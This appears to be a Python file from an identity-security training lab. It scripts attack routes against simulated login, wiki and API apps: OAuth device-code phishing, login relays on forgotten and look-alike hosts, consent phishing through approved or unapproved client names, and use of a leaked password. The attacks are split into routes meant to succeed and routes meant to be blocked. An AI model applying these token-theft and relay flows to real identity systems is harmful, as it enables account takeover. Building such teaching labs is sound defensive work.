"""Ways into a company whose people all have keys (lesson 13)."""

import contextlib
import io

from labutils.identity.oauth import bearer
from labutils.identity.provider.state import DEVICE_CODE
from labutils.incident.relay import Relay
from labutils.lessons.lesson_13.all_have_keys import AllHaveKeys
from labutils.lessons.lesson_13.phishing import leaked_password
from labutils.stage.two_apps import API, LOGIN, WIKI


def quietly(scene: AllHaveKeys, link: str) -> None:
    with contextlib.redirect_stdout(io.StringIO()):
        scene.send(link)


def vault(scene: AllHaveKeys, tokens: dict) -> str:
    answer = scene.tom.get(API + "/vault", headers=bearer(tokens.get("access_token", "none")))
    return answer.json().get("flag", answer.text)


def by_device_code(scene: AllHaveKeys, browser) -> str:
    form = {"client_id": "screen", "scope": "openid profile"}
    answer = browser.post(LOGIN + "/device_authorization", data=form)
    if not answer.is_success:
        return answer.text
    device = answer.json()
    quietly(scene, device["verification_uri_complete"])
    scene.wait(device["interval"])
    form = {"grant_type": DEVICE_CODE, "client_id": "screen", "device_code": device["device_code"]}
    return vault(scene, browser.post(LOGIN + "/token", data=form).json())


def relayed(scene: AllHaveKeys, host: str) -> str:
    scene.take(host, Relay(scene.tom, LOGIN, f"https://{host}"))
    link = scene.tom.get(WIKI + "/login").headers["location"]
    quietly(scene, link.replace(LOGIN, f"https://{host}"))
    scene.tom.get(WIKI + "/login", follow_redirects=True)
    answer = scene.tom.get(WIKI + "/vault")
    return answer.json().get("flag", answer.text)


def on_the_forgotten_host(scene: AllHaveKeys) -> str:
    return relayed(scene, "old.login.example")


def by_consent(scene: AllHaveKeys, **changes: str) -> str:
    scene.take("room-planner.test")
    request = scene.request | changes
    quietly(scene, str(scene.tom.build_request("GET", LOGIN + "/authorize", params=request).url))
    if not scene.seen:
        return "nobody came"
    landed = scene.tom.build_request("GET", scene.seen[-1]).url.params
    form = {"grant_type": "authorization_code", "client_id": request["client_id"]}
    form |= {"code": landed.get("code", ""), "redirect_uri": request["redirect_uri"]}
    form |= {"code_verifier": scene.verifier}
    return vault(scene, scene.tom.post(LOGIN + "/token", data=form).json())


ROUTES = {
    "a relay on the forgotten host": on_the_forgotten_host,
    "the name of an approved client": by_consent,
}


def at_a_look_alike(scene: AllHaveKeys) -> str:
    return relayed(scene, "login-example.test")


def at_the_wikis_own_name(scene: AllHaveKeys) -> str:
    with contextlib.redirect_stdout(io.StringIO()):
        scene.take("wiki.example")
    return scene.tom.get(WIKI + "/vault").text


def the_password(scene: AllHaveKeys) -> str:
    thief = leaked_password(scene._account)
    thief.get(WIKI + "/login", follow_redirects=True)
    return thief.get(WIKI + "/vault").text


def tom_as_himself(scene: AllHaveKeys) -> str:
    scene._apps.sign_in("tom")
    return scene.tom.get(WIKI + "/vault").text


SHUT = {
    "a device code from home": lambda scene: by_device_code(scene, scene.tom),
    "a relay at a look-alike": at_a_look_alike,
    "a client that nobody approved": lambda scene: by_consent(scene, client_id="free-calendar"),
    "another redirect address": lambda scene: by_consent(scene, redirect_uri="https://x.test/cb"),
    "a name that is taken": at_the_wikis_own_name,
    "the password": the_password,
    "Tom as himself": tom_as_himself,
    "no token": lambda scene: vault(scene, {}),
}
